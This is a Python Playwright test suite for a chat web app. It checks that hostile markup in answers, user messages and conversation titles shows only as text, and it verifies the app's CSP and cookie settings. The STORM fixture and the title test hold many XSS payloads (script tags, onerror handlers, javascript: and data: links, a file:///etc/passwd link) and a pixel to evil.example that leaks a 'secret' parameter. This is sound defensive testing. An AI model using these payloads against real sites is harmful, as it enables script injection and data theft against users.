"""Whatever a model or a user writes, it runs nothing here and tells nobody that it was read."""

from playwright.sync_api import expect

from tests.e2e.conftest import OpenPage
from tests.e2e.pages import ChatPage
from tests.e2e.site import Site

STORM = """<script>window.harmed = 1</script>
<img src="https://evil.example/pixel.png" onerror="window.harmed = 1">
<svg onload="window.harmed = 1"><a href="javascript:window.harmed=1">svg</a></svg>
<iframe src="https://evil.example/"></iframe><style>@import "https://evil.example/x.css";</style>

![pixel](https://evil.example/pixel.png?secret=1) ![data](data:image/svg+xml,<svg onload=alert(1)>)

[script](javascript:window.harmed=1) [shout](JAVASCRIPT:window.harmed=1) [data](data:text/html,<script>1</script>)
[tab](java\tscript:window.harmed=1) [file](file:///etc/passwd) [relative](/admin/logout) <javascript:window.harmed=1>
[quote](https://example.org/"onmouseover="window.harmed=1) [good](https://example.org/page)

| <b onclick="window.harmed=1">cell</b> | [x](javascript:window.harmed=1) |
|---|---|
| `<script>window.harmed=1</script>` | ![p](https://evil.example/p) |

```html "onclick="window.harmed=1
<script>window.harmed = 1</script>
```
"""
LINKS = "(place) => [...place.querySelectorAll('a')].map((a) => [a.protocol, a.target, a.rel])"
FOREIGN = """
(place) => place.querySelectorAll(
  "img, script, iframe, style, link, object, [onerror], [onclick], [onload], [style]"
).length
"""
MARKUP = """
() => {
  try {
    document.createElement("p").innerHTML = "<b>x</b>";
    return "written";
  } catch {
    return "refused";
  }
}
"""


def test_a_hostile_answer_is_only_text(open_page: OpenPage, site: Site) -> None:
    chat = open_page()
    chat.register('<img src=x onerror="window.harmed=1">')
    letters = [STORM[at : at + 3] for at in range(0, len(STORM), 3)]
    site.script(*letters)
    chat.ask(STORM)
    chat.expect_answer("complete")
    assert chat.answer.evaluate(FOREIGN) == 0
    links = chat.answer.evaluate(LINKS)
    assert links
    assert {protocol for protocol, _, _ in links} == {"https:"}
    assert {(target, rel) for _, target, rel in links} == {("_blank", "noopener noreferrer")}
    for link in chat.answer.locator(".markdown span").all():
        if link.is_visible():
            link.click()
    # What the user wrote is shown letter by letter, too.
    assert chat.questions.last.locator(".bubble").text_content() == STORM.strip()
    assert chat.questions.last.evaluate(FOREIGN) == 0
    chat.page.reload()
    expect(chat.text).to_contain_text("window.harmed")
    assert chat.answer.evaluate(FOREIGN) == 0
    assert chat.page.evaluate("window.harmed") is None


def test_a_hostile_title_is_only_text(chat: ChatPage, site: Site) -> None:
    site.script("Hello.")
    chat.ask("Hi")
    chat.expect_answer("complete")
    chat.open_menu("Hi")
    chat.choose("Rename")
    title = '"><img src=x onerror=window.harmed=1>'
    chat.page.get_by_label("Conversation title").fill(title)
    chat.page.get_by_label("Conversation title").press("Enter")
    expect(chat.title).to_have_text(title)
    chat.page.reload()
    expect(chat.rows).to_have_text([title])
    chat.open_menu(title)
    chat.choose("Delete")
    expect(chat.page.get_by_role("dialog")).to_contain_text(title)
    assert chat.page.evaluate("window.harmed") is None


def test_the_policy_lets_no_other_script_run(open_page: OpenPage) -> None:
    chat = open_page()
    policy = chat.page.request.get(chat.site.url).headers["content-security-policy"]
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    assert rules["default-src"] == "'none'"
    assert rules["script-src"].startswith("'nonce-")
    assert rules["style-src"] == "'self'"
    assert rules["frame-ancestors"] == rules["base-uri"] == "'none'"
    assert "unsafe" not in policy
    markup = chat.page.request.get(chat.site.url).text()
    assert "style=" not in markup
    assert " on" + "click=" not in markup
    # Trusted Types: a string never becomes HTML, not even by mistake.
    fresh = chat.page.context.new_page()
    fresh.goto(chat.site.url)
    assert fresh.evaluate(MARKUP) == "refused"


def test_no_token_is_where_a_script_could_find_it_later(chat: ChatPage) -> None:
    stored = chat.page.evaluate("[JSON.stringify(localStorage), JSON.stringify(sessionStorage), document.cookie]")
    assert stored == ["{}", "{}", ""]
    cookies = chat.page.context.cookies(chat.site.url + "/api/v1/auth/refresh")
    # The session, and that this browser is known to the account.
    assert sorted(cookie["name"] for cookie in cookies) == ["eloquent_device", "eloquent_refresh"]
    assert [(cookie["httpOnly"], cookie["sameSite"]) for cookie in cookies] == [(True, "Strict")] * 2
